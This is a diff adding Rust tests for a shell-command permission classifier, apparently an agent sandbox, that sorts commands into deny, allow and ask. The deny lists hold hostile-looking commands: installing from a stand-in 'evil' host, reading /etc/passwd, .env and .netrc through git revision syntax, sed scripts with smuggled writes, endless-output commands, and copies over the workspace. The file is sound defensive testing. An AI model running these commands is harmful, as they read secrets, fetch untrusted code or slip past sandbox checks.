@@ -1,0 +1,150 @@
+//! What attackers found, and what was refused without need: each stays as it is now.
+
+use mab_exec::{Decision, Mode};
+
+use super::{decided, denied};
+
+#[test]
+fn words_that_a_program_reads_differently_than_they_look_are_denied() {
+    denied(&[
+        "xxd -ac 5 in",
+        "xxd -bc 5 in",
+        "xxd -pl 5 in",
+        "tree -Po x out",
+        "npm install -wsg x",
+        "npm install -wDg x",
+        "npm install -wsC /x y",
+        "git diff -G --no-index a /etc/passwd",
+        "git diff -S --no-index a b",
+        "git log --author --no-index",
+        "pip install -r https://evil/x",
+        "pip install -c file:///etc/passwd x",
+        "npm install x@..",
+        "npm install x@.",
+        "yarn add x@../y",
+    ]);
+}
+
+#[test]
+fn repositories_within_a_repository_are_never_looked_into() {
+    denied(&[
+        "git diff --submodule=diff",
+        "git log -p --submodule=diff",
+        "git diff --submodule",
+        "git status --ignore-submodules=none",
+        "git diff --ignore-submodules=none",
+        "git log --format=%-G?",
+        "git log --format='% GK'",
+        "git log --format=%+GS",
+    ]);
+}
+
+#[test]
+fn secrets_named_through_revisions_are_denied() {
+    denied(&[
+        "git show :0:.netrc",
+        "git show :.env",
+        "git show 'HEAD@{10:00}:.env.local'",
+        "git show 'HEAD^{/1}:.env.local'",
+        "git show 'HEAD^{/a:b}:./.env'",
+        "git log -L1,5:.env",
+        "git log -L 1,5:.env",
+        "git log -L :main:.env",
+        "git log -L1,5:../x",
+        "git diff ':(top).env'",
+        "git show :/.env",
+    ]);
+}
+
+#[test]
+fn what_never_ends_or_prints_without_measure_is_denied() {
+    denied(&[
+        "sed 'G;D' f",
+        "shuf -re a",
+        "jq -n 'repeat(1)'",
+        "jq -n '[range(infinite)]'",
+        "jq -n '0|while(true;.+1)'",
+        "jq -n '0|recurse(.+1)'",
+        "seq 999999999999999999",
+        "printf %999999999d 1",
+        "date +%999999999d",
+        "sleep 3600",
+        "sleep infinity",
+    ]);
+}
+
+#[test]
+fn scripts_of_sed_that_another_sed_reads_differently_are_denied() {
+    denied(&[
+        "sed 's/[]/]/;/w x/p' f",
+        "sed 's/[[:space:]/]/;/w x/p' f",
+        r"sed 's/[\]/]/;/w x/p' f",
+        "sed 's/[/]/w x/' f",
+        "sed 's/[//w x]/C/' f",
+        "sed '/[/w x]/p' f",
+    ]);
+}
+
+#[test]
+fn copies_over_the_workspace_itself_are_denied() {
+    denied(&["cp -rT evil .", "cp -r evil/. .", "cp -r evil/./ sub", "cp -r . x", "mv -T evil ."]);
+}
+
+#[test]
+fn commands_that_only_read_are_allowed() {
+    for command in [
+        "sed -n '/x/{p;q}' f",
+        "sed 's/[^/]*$//' f",
+        "jq -r .env package.json",
+        "tar -tf a.tar",
+        "unzip -l a.zip",
+        "zcat a.gz",
+        "gzip -dc a.gz",
+        "ls --help",
+        "grep --version",
+        "cargo --version",
+        "python3 --version",
+        "node --version",
+        "lscpu",
+        "locale",
+        "sleep 1",
+        "diff -r a b",
+        "seq 1 100",
+    ] {
+        assert_eq!(decided(Mode::Safe, command), Decision::Allow, "{command}");
+    }
+    for command in [
+        "git config --get user.name",
+        "git show ':/fix'",
+        "git show HEAD:src/main.rs",
+        "git log -L1,5:src/main.rs",
+        "git apply --check x.patch",
+        "cargo locate-project",
+        "cargo pkgid",
+        "rustc -vV",
+        "go env GOPATH",
+    ] {
+        assert_eq!(decided(Mode::Restricted, command), Decision::Allow, "{command}");
+    }
+}
+
+#[test]
+fn commands_that_a_person_can_weigh_wait_for_one() {
+    for command in [
+        "git revert --no-edit HEAD",
+        "git cherry-pick main~1",
+        "git merge feature/x",
+        "git commit -m '- a list'",
+        "cargo update --offline",
+        "cargo fetch --offline",
+        "tox",
+        "jest src",
+        "vitest run",
+        "npm pack",
+        "pip install -r requirements.txt",
+        "cp -T a b",
+        "mv a b",
+    ] {
+        assert_eq!(decided(Mode::Restricted, command), Decision::Ask, "{command}");
+    }
+}
